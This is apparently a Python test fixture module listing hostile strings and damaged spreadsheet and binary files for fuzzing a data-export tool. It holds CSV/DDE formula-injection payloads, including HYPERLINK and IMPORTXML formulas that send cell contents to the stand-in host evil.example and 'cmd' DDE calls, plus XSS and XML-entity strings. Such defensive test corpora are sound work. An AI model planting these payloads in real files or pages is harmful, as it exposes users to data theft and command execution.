"""A corpus of hostile strings and damaged files for the fuzz and round-trip tests.

Model outputs, case texts, rationales and adjudication reasons are untrusted text; every
string here is something a model, a rater or a copy-paste has produced or could produce.
Import it by name (``tests/`` is on ``sys.path``, see ``conftest.py``).
"""

from __future__ import annotations

import io
import random
import zipfile

#: formula / DDE payloads (OWASP "CSV Injection"), including full-width and blank-led starts
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
    "'=1+1",  # already quoted: must survive as typed
    "-",
    "=",
    "@",
    "+",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    'DDE("cmd";"/C calc";"!A0")',
]

#: line and paragraph separators that some readers split on and others do not
LINE_BREAKS = [
    "line1\rline2",  # a bare carriage return
    "line1\nline2",
    "line1\r\nline2",
    "a\r",
    "\r",
    "\n",
    "line1\u2028line2",  # LINE SEPARATOR
    "line1\u2029line2",  # PARAGRAPH SEPARATOR
    "line1\x85line2",  # NEXT LINE (C1)
    "line1\x0bline2",  # vertical tab
    "line1\x0cline2",  # form feed
    "line1\x1cline2\x1dx\x1ey",  # file/group/record separators (str.splitlines splits on these)
    "\r\n\r\n",
]

#: bidi overrides / isolates and other invisible or control characters
BIDI_CONTROL = [
    "safe\u202egnp.exe",  # RIGHT-TO-LEFT OVERRIDE
    "\u202aLRE\u202bRLE\u202cPDF\u202dLRO",
    "\u2066LRI\u2067RLI\u2068FSI\u2069PDI",
    "nul\x00byte",
    "bell\x07esc\x1b[31mred\x1b[0m",  # ANSI escape
    "c1\x9b31mcsi",
    "zero\u200bwidth\ufeffbom",
    "tab\tinside",
]

#: markup and template specials
MARKUP = [
    '<script>alert("x")</script>',
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>owned</h1>",
    "a | b | c",
    "**bold** _it_ `code` [link](javascript:alert(1))",
    "$case_text ${output_text} $var",
    "{{ 7*7 }} {% raw %}",
    "<![CDATA[x]]> & &amp; &lt; \"quote\" 'apos'",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]>&e;',
]

#: Unicode that legacy encodings or naive length arithmetic get wrong
UNICODE = [
    "",
    " ",
    "  padded  ",
    "Ünïcödé ß ğ İ ı",
    "日本語のテキスト",
    "emoji 👩🏽‍⚕️ 🫁 e\u0301",
    "\U0001f600" * 3,
    "مرحبا بالعالم",
    "NaN",
    "None",
    "null",
    "1e309",
    "0x10",
    "00123",
    "TRUE",
]

#: the whole corpus of short hostile strings
CORPUS: list[str] = FORMULAS + LINE_BREAKS + BIDI_CONTROL + MARKUP + UNICODE

#: a cell longer than the csv module's default field limit (131,072 characters)
HUGE = "Stage IV adenocarcinoma, EGFR exon 19 deletion. " * 3000  # 144,000 characters


def corpus_with_huge() -> list[str]:
    return CORPUS + [HUGE]


def mixed(rng: random.Random, k: int = 3) -> str:
    """A random concatenation of ``k`` corpus strings (deterministic for a seeded ``rng``)."""
    return "".join(rng.choice(CORPUS) for _ in range(k))


# --------------------------------------------------------------------------- damaged files


def deep_json(depth: int = 100_000) -> str:
    return "[" * depth + "]" * depth


def xlsx_bytes(rows: list[list]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def damage_xlsx(data: bytes, member: str = "xl/worksheets/sheet1.xml", how: str = "truncate") -> bytes:
    """An .xlsx whose ``member`` is malformed XML (cut in half, or replaced by junk)."""
    zin = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zout:
        for name in zin.namelist():
            d = zin.read(name)
            if name == member:
                d = d[: len(d) // 2] if how == "truncate" else b"<worksheet><sheetData><row><c>"
            zout.writestr(name, d)
    return out.getvalue()


def ods_bytes() -> bytes:
    """A minimal OpenDocument spreadsheet (what LibreOffice saves by default)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        z.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        )
    return out.getvalue()


#: bytes that are no text file at all
BINARY = [
    b"",
    b"\xef\xbb\xbf",  # a BOM and nothing else
    b"\xff\xfe\x00\x00garbage",
    b"\x00" * 64,
    b"PK\x03\x04not really a zip",
    b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    "latin-1 caf\xe9\n".encode("latin-1"),
]
